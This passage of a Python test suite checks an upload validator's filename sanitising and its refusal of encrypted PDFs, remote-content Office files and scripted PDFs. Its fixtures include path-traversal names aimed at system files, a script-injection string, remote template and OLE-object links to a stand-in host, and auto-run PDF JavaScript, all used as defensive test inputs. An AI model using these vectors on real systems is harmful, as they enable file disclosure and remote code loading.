        ("C:\\Users\\maija\\Hankesuunnitelma.pdf", "Hankesuunnitelma.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("raportti.pdf/", "raportti.pdf"),
        ("a  \t b\n c.pdf", "a b c.pdf"),
        ("\u00a0 budjetti\u2003 2021 .xlsx", "budjetti 2021.xlsx"),
        ("budjetti{1}<2>[3]&4;.xlsx", "budjetti1234.xlsx"),
        # Any "/" separates directories, even inside what looks like markup.
        ("budjetti<script>alert(1)</script>.xlsx", "script.xlsx"),
        ('tiedosto:"*?|<>.pdf', "tiedosto.pdf"),
        ("a..b...pdf", "a.b.pdf"),
        ("Liite 1 .. Budjetti .pdf", "Liite 1. Budjetti.pdf"),
        ("raportti.pdf. . ", "raportti.pdf"),
        (".htaccess", "attachment.htaccess"),
        (".pdf", "attachment.pdf"),
        ("..", "attachment"),
        ("...", "attachment"),
        ("", "attachment"),
        ("   ", "attachment"),
        ("/", "attachment"),
        ("\x00\x01\x1f", "attachment"),
        ("--rf.pdf", "rf.pdf"),
        ("CON", "_CON"),
        ("con.pdf", "_con.pdf"),
        ("Com1.tar.docx", "_Com1.tar.docx"),
        ("LPT9 .odt", "_LPT9.odt"),
        ("CONSORTIUM.pdf", "CONSORTIUM.pdf"),
        ("x" * 200 + ".pdf", "x" * 116 + ".pdf"),
        ("ä" * 200 + ".docx", "ä" * 115 + ".docx"),
        # 120 characters of three bytes each would not fit a file system's 255 bytes.
        ("報告" * 100 + ".pdf", "報告" * 41 + "報" + ".pdf"),
        ("a" * 119 + " " + "b" * 10 + ".pdf", "a" * 116 + ".pdf"),
        ("x" * 150, "x" * 120),
        ("v1.tämä-on-pitkä-nimen-osa" + "x" * 100, "v1.tämä-on-pitkä-nimen-osa" + "x" * 94),
    ],
)
def test_sanitise_filename(name, safe):
    assert sanitise_filename(name) == safe


def test_sanitised_names_fit_the_byte_limit():
    assert len(sanitise_filename("報告" * 100 + ".pdf").encode()) == 253


def test_the_unicode_name_is_kept_through_the_whole_check():
    checked = check_upload(upload("Hankesuunnitelma – liite ä.PDF", make_pdf()))
    assert checked.safe_name == "Hankesuunnitelma - liite ä.pdf"


NAME_CHARACTERS = st.one_of(
    st.characters(),
    st.sampled_from(list("./\\ -_()\x00\t\n–ääöÅé\u0301\u0308\u1100\u1161\u11a8")),
    st.sampled_from(["CON", "nul", "COM1", "..", ".pdf", ".exe", "報"]),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(NAME_CHARACTERS, max_size=80).map("".join))
@example("\u1100!\u1161")  # Hangul jamo that join once the character between them goes
@example("e!\u0301.pdf")
@example(".. CON .pdf")
@example("CON.." + "x" * 120)
@example("x" * 60 + "ä" * 50 + " .." + "x" * 60)  # truncation leaves a new extension
@example("x" * 119 + "\u0301" + ".pdf")
def test_sanitised_names_are_safe_and_stable(name):
    safe = sanitise_filename(name)

    assert safe != ""
    assert "/" not in safe
    assert "\\" not in safe
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs") for c in safe)
    assert not safe.startswith(".")
    assert len(safe) <= 120
    assert len(safe.encode()) <= 255
    assert safe == safe.strip()
    assert unicodedata.normalize("NFC", safe) == safe
    assert safe.split(".")[0].rstrip().upper() not in {"CON", "NUL", "COM1", "PRN", "AUX"}
    assert sanitise_filename(safe) == safe


# --- The form field ------------------------------------------------------------------------


def test_the_field_returns_the_upload_with_its_check():
    content = make_odt()
    file = upload("Sitoumus.odt", content)

    cleaned = AttachmentField().clean(file)

    assert cleaned is file
    assert cleaned.checked == CheckedUpload(
        kind="odt",
        content_type=ODT_TYPE,
        safe_name="Sitoumus.odt",
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
    )


def test_the_field_refuses_with_the_checks_code():
    field = AttachmentField(max_bytes=1000)

    with pytest.raises(ValidationError) as raised:
        field.clean(upload("iso.pdf", padded_pdf(1001)))

    assert raised.value.code == "too_large"


def test_the_field_keeps_the_initial_file_without_checking_it_again():
    initial = upload("vanha.exe.pdf", b"not checked again")

    assert AttachmentField(required=False).clean(None, initial) is initial


class AttachmentForm(forms.Form):
    attachment = AttachmentField()


def test_the_field_tells_the_browser_which_files_to_offer():
    html = str(AttachmentForm()["attachment"])

    assert f'accept=".pdf,.docx,.xlsx,.odt,application/pdf,{DOCX_TYPE},{XLSX_TYPE},{ODT_TYPE}"' in (
        html
    )


def test_the_field_in_a_form_reports_the_message_in_the_users_language():
    form = AttachmentForm(files={"attachment": upload("tyhjä.pdf", b"%PDF-")})
    with translation.override("en"):
        assert form.errors == {"attachment": [UNREADABLE.format(name="tyhjä.pdf")]}


# --- Password-protected PDFs --------------------------------------------------------------


def pypdf_document(
    *, password: str | None = None, algorithm: str = "RC4-128", pages: int = 1
) -> bytes:
    """A PDF of blank pages written by pypdf, encrypted with ``password`` (an empty password
    is an owner password only, still an encrypted file)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(width=595, height=842)
    if password is not None:
        writer.encrypt(user_password=password, owner_password="omistaja", algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def with_xref_stream(encrypt: bool) -> bytes:
    """A PDF 1.5 whose cross-reference section is a stream; its dictionary names /Encrypt
    when ``encrypt``, and the file has no trailer keyword at all."""
    pdf = bytearray(make_pdf().split(b"xref\n0 ")[0])
    xref = len(pdf)
    entries = b"\x00" * 12
    dictionary = b"<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d%s >>" % (
        len(entries),
        b" /Encrypt 6 0 R /ID [<00> <00>]" if encrypt else b"",
    )
    pdf += b"7 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (dictionary, entries)
    pdf += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(pdf)


@pytest.mark.parametrize(
    "build",
    [
        lambda: pypdf_document(password="salasana"),
        lambda: pypdf_document(password=""),
        lambda: pypdf_document(password="salasana", algorithm="AES-256"),
        # The trailer is far from the cross-reference table's start.
        lambda: pypdf_document(password="salasana", pages=2000),
    ],
    ids=["password", "owner-password-only", "aes-256", "large"],
)
def test_password_protected_pdfs_are_refused(build):
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload("salainen.pdf", build()))

    assert raised.value.code == "encrypted"


@pytest.mark.parametrize(
    "build",
    [
        lambda: pypdf_document(),
        lambda: with_xref_stream(encrypt=False),
        # Text about encryption inside a page's content is not the document's encryption.
        lambda: make_pdf("/Encrypt 5 0 R trailer << /Encrypt >>"),
    ],
    ids=["pypdf", "xref-stream", "mentions-encrypt"],
)
def test_pdfs_without_a_password_are_accepted(build):
    assert check_upload(upload("avoin.pdf", build())).kind == "pdf"


# --- Content fetched from outside, and scripts ------------------------------------------

OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def part_rels(*relationships: tuple[str, str, str]) -> bytes:
    """A part's relationships: (type's last word, target, target mode) each."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{n}" Type="{OFFICE_RELATIONSHIPS}/{kind}" Target="{target}"'
            f' TargetMode="{mode}"/>'
            for n, (kind, target, mode) in enumerate(relationships, start=1)
        )
        + "</Relationships>"
    ).encode()


@pytest.mark.parametrize(
    ("part", "relationship"),
    [
        (
            "word/_rels/settings.xml.rels",
            ("attachedTemplate", "http://x.example/t.dotm", "External"),
        ),
        ("word/_rels/document.xml.rels", ("oleObject", "mhtml:http://x.example/!x", "External")),
        ("word/_rels/document.xml.rels", ("frame", "https://x.example/", "external")),
    ],
    ids=["remote-template", "remote-ole-object", "remote-frame"],
)
def test_a_document_that_loads_content_from_outside_is_refused(part, relationship):
    members = {**docx_members(), part: part_rels(relationship)}
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload("suunnitelma.docx", make_zip(members)))
    assert raised.value.code == "external_content"
    assert raised.value.messages == [
        "The file suunnitelma.docx loads content from outside itself (a template or an object "
        "on the internet), which is not accepted. Save a copy without such links and upload "
        "that."
    ]


def test_a_document_with_links_to_web_pages_is_accepted():
    members = {
        **docx_members(),
        "word/_rels/document.xml.rels": part_rels(
            ("hyperlink", "https://tem.fi/", "External"), ("styles", "styles.xml", "Internal")
        ),
    }
    assert check_upload(upload("suunnitelma.docx", make_zip(members))).kind == "docx"


def _pdf_with(script_place: str) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('x');"),
        }
    )
    if script_place == "document":
        scripts = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(action)])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(scripts)}
        )
    elif script_place == "open-action":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    elif script_place == "page-action":
        page = writer.pages[0]
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("script_place", ["document", "open-action", "page-action"])
def test_a_pdf_with_scripts_is_refused(script_place):
    with translation.override("en"), pytest.raises(ValidationError) as raised:
        check_upload(upload("lomake.pdf", _pdf_with(script_place)))
    assert raised.value.code == "scripts"
    assert raised.value.messages == [
        "The file lomake.pdf contains scripts (JavaScript), which are not accepted. "
        "Print it to a new PDF or save a copy without scripts and upload that."
    ]


def test_a_pdf_written_by_pypdf_without_scripts_is_accepted():
    assert check_upload(upload("lomake.pdf", _pdf_with("nowhere"))).kind == "pdf"
